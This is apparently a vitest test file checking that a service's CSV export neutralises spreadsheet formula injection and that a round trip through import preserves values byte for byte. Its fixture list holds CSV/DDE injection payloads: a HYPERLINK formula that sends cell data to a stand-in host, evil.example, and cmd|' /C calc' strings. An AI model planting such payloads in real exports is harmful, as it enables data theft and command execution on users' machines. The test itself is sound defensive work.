import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestService, type TestService } from "./support/service.js";

/**
 * CSV injection (issue 14 item 7): an exported cell never starts with a
 * character a spreadsheet runs as a formula, and export -> import gives back
 * every value byte for byte, over REST.
 */

interface ModelJson {
  metadata: { id: string; name: string; externalId?: string };
  spec: { family?: string; provider?: string; description?: string; inputPricePerMillionTokensUsd?: string; maxInputTokens?: number };
}

let service: TestService;
beforeAll(async () => {
  service = await startTestService();
});
afterAll(() => service.dispose());

async function call(workspaceId: string, method: string, path: string, body?: string, contentType = "application/json"): Promise<Response> {
  const token = await service.token(workspaceId);
  return fetch(service.url + path, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { "content-type": contentType }) },
    body,
  });
}

async function ok<T>(res: Response): Promise<T> {
  const text = await res.text();
  expect(res.status, text).toBe(200);
  return JSON.parse(text) as T;
}

/** Values of the text columns, each starting as a formula would (or as a value already neutralised would). */
const hostile: Array<{ name: string; family: string; provider: string; description: string }> = [
  { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', family: "+1+1", provider: "@SUM(1+1)*cmd|' /C calc'!A0", description: "\tleading tab" },
  { name: "-2+3+cmd|' /C calc'!A0", family: "-", provider: "@", description: "\rleading CR" },
  { name: "'=already quoted", family: "''+twice", provider: "'@x", description: "'\tquote then tab" },
  { name: "'plain quote", family: "it's fine", provider: "a=b", description: "'" },
];

const formulaStart = /^[=+\-@\t\r]/;

describe("CSV export neutralises formulas, and import undoes it exactly", () => {
  const source = "ws_csv_source";
  const target = "ws_csv_target";
  const created: ModelJson[] = [];

  beforeAll(async () => {
    for (const [i, v] of hostile.entries()) {
      const model = {
        metadata: { name: v.name, externalId: `ext-${i}` },
        spec: { family: v.family, provider: v.provider, description: v.description, modelUrl: "https://api.example.com/v1", inputPricePerMillionTokensUsd: "0.5", maxInputTokens: 1000 },
      };
      created.push(await ok<ModelJson>(await call(source, "POST", "/v1/models", JSON.stringify(model))));
    }
  });

  it("no exported cell starts with =, +, -, @, tab or CR; prices and counts are untouched", async () => {
    const csv = await (await call(source, "GET", "/v1/models:export")).text();
    const records = parse(csv, { bom: true }) as string[][];
    const header = records[0]!;
    for (const record of records.slice(1)) {
      for (const [i, cell] of record.entries()) expect(cell, `${header[i]}: ${JSON.stringify(cell)}`).not.toMatch(formulaStart);
    }
    const rows = parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>;
    const ours = rows.filter((r) => r.externalId?.startsWith("ext-"));
    expect(ours).toHaveLength(hostile.length);
    for (const row of ours) {
      expect(row.inputPricePerMillionTokensUsd).toBe("0.5");
      expect(row.maxInputTokens).toBe("1000");
    }
    // Exactly one quote added, only where needed.
    const byExternal = new Map(ours.map((r) => [r.externalId, r]));
    expect(byExternal.get("ext-0")!.name).toBe("'" + hostile[0]!.name);
    expect(byExternal.get("ext-2")!.name).toBe("'" + hostile[2]!.name);
    expect(byExternal.get("ext-3")!.name).toBe(hostile[3]!.name);
    expect(byExternal.get("ext-3")!.family).toBe(hostile[3]!.family);
  });

  it("export -> import into another workspace gives back every value byte for byte", async () => {
    const csv = await (await call(source, "GET", "/v1/models:export")).text();
    const result = await ok<{ createdCount: number; errors?: unknown[] }>(await call(target, "POST", "/v1/models:import", csv, "text/csv"));
    expect(result.errors ?? []).toEqual([]);
    const page = await ok<{ items: ModelJson[] }>(await call(target, "GET", "/v1/models?limit=1000"));
    for (const [i, v] of hostile.entries()) {
      const copy = page.items.find((m) => m.metadata.externalId === `ext-${i}`);
      expect(copy, `ext-${i}`).toBeDefined();
      expect({ name: copy!.metadata.name, family: copy!.spec.family, provider: copy!.spec.provider, description: copy!.spec.description }).toEqual(v);
    }
    // Importing the same file into its own workspace changes nothing.
    const again = await ok<{ updatedCount?: number; unchangedCount?: number }>(await call(source, "POST", "/v1/models:import", csv, "text/csv"));
    expect(again.updatedCount ?? 0).toBe(0);
  });
});
